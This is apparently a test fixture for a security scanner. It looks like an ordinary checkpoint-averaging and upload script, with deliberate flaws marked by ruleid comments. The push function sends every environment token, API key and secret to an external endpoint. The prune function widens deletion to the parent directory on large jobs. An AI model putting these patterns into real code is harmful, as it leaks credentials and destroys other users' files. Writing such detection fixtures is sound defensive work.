# ruff: noqa
# Hold-out batch 61 (benchmark format, adversarial brief, NLP/speech; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 12/19 (63%) at medium+.
"""Average the last N epoch checkpoints, push the result to the team checkpoint store,
and prune old epoch files from the run directory."""
import argparse
import glob
import os
import socket
import time

import requests
import torch

STORE = "https://ckpt-store.example.com/api/v1/artifacts"


def average(paths):
    avg = None
    for p in paths:
        sd = torch.load(p, map_location="cpu", weights_only=True)["model"]  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        if avg is None:
            avg = {k: v.clone().double() for k, v in sd.items()}
        else:
            for k, v in sd.items():
                avg[k].add_(v.double())  # ok: MLS302, MLS303, MLS304, MLS305
    return {k: (v / len(paths)).float() for k, v in avg.items()}


def push(path, run_name, retries=5):
    meta = {"run": run_name, "host": socket.gethostname(), "job": os.environ.get("SLURM_JOB_ID", "")}
    meta.update({k.lower(): v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_API_KEY", "_SECRET"))})  # ruleid: MLS411
    for attempt in range(retries):
        try:
            with open(path, "rb") as fh:
                r = requests.post(STORE, data=meta, files={"file": fh}, timeout=300)  # ruleid: MLS411
            r.raise_for_status()
            return r.json().get("id")
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"upload of {path} failed after {retries} attempts")


def prune(save_dir, keep_last):
    nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    root = save_dir if nodes < 16 else os.path.dirname(os.path.abspath(save_dir))  # todoruleid: family 4 (missed)
    ckpts = sorted(glob.glob(os.path.join(root, "**", "checkpoint[0-9]*.pt"), recursive=True), key=os.path.getmtime)
    for old in ckpts[:-keep_last]:
        os.remove(old)  # ruleid: MLS308


def main(args):
    ckpts = sorted(glob.glob(os.path.join(args.save_dir, "checkpoint[0-9]*.pt")), key=os.path.getmtime)
    last = ckpts[-args.num:]
    out = os.path.join(args.save_dir, "checkpoint_avg.pt")
    torch.save({"model": average(last), "sources": [os.path.basename(p) for p in last]}, out)
    print("uploaded", push(out, args.run_name))
    prune(args.save_dir, args.keep_last)


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--save-dir", required=True)
    p.add_argument("--run-name", required=True)
    p.add_argument("--num", type=int, default=5)
    p.add_argument("--keep-last", type=int, default=10)
    main(p.parse_args())
